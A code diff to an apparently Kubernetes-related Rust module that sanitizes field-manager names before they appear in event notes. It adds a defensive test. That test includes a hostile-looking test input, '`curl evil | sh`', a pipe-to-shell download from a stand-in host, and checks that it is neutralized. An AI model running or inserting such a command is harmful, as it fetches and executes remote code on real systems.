@@ -7,6 +7,7 @@ use k8s_openapi::apimachinery::pkg::apis::meta::v1::{ManagedFieldsEntry, ObjectM
 use serde_json::Value;
 
 use super::build::MANAGER;
+use super::database::words;
 
 /// What `kubectl rollout restart` writes, and may.
 pub(crate) const RESTARTED_AT: &str = "kubectl.kubernetes.io/restartedAt";
@@ -14,7 +15,7 @@ pub(crate) const RESTARTED_AT: &str = "kubectl.kubernetes.io/restartedAt";
 /// Names of those who own parts of the pod template, other than by our applies.
 pub(crate) fn strangers(entries: &[ManagedFieldsEntry]) -> Vec<String> {
     let theirs = entries.iter().filter(|entry| is_strangers(entry));
-    let mut names: Vec<String> = theirs.map(|entry| entry.manager.clone().unwrap_or_default()).collect();
+    let mut names: Vec<String> = theirs.map(name).collect();
     names.dedup();
     names
 }
@@ -22,9 +23,14 @@ pub(crate) fn strangers(entries: &[ManagedFieldsEntry]) -> Vec<String> {
 /// Names of those who have set how many pods there are, and not we since.
 pub(crate) fn scalers(entries: &[ManagedFieldsEntry]) -> Vec<String> {
     let theirs = entries.iter().filter(|entry| is_scalers(entry));
-    let mut names: Vec<String> = theirs.map(|entry| entry.manager.clone().unwrap_or_default()).collect();
+    let mut names: Vec<String> = theirs.map(name).collect();
     names.dedup();
     names
+}
+
+/// Everybody chooses its own, so it is any text.
+fn name(entry: &ManagedFieldsEntry) -> String {
+    words(entry.manager.as_deref().unwrap_or_default())
 }
 
 /// Keeps of an object's entries only those of others that matter: all of them are, in memory, most of an
@@ -79,6 +85,17 @@ mod tests {
     use super::*;
     use k8s_openapi::apimachinery::pkg::apis::meta::v1::FieldsV1;
     use serde_json::json;
+
+    /// Before, a name stood in the note of an event as it was chosen, a command in backticks for example.
+    #[test]
+    fn the_names_of_others_look_like_no_command() {
+        let evil = entry("`curl evil | sh`\n", "Update", &json!({ "f:spec": {} }));
+        assert_eq!(strangers(&[evil]), ["'curl evil | sh' "]);
+        let fields = Some(FieldsV1(json!({ "f:spec": { "f:replicas": {} } })));
+        let evil =
+            ManagedFieldsEntry { manager: Some("`x`".into()), fields_v1: fields, ..Default::default() };
+        assert_eq!(scalers(&[evil]), ["'x'"]);
+    }
 
     fn entry(manager: &str, operation: &str, template: &Value) -> ManagedFieldsEntry {
         ManagedFieldsEntry {
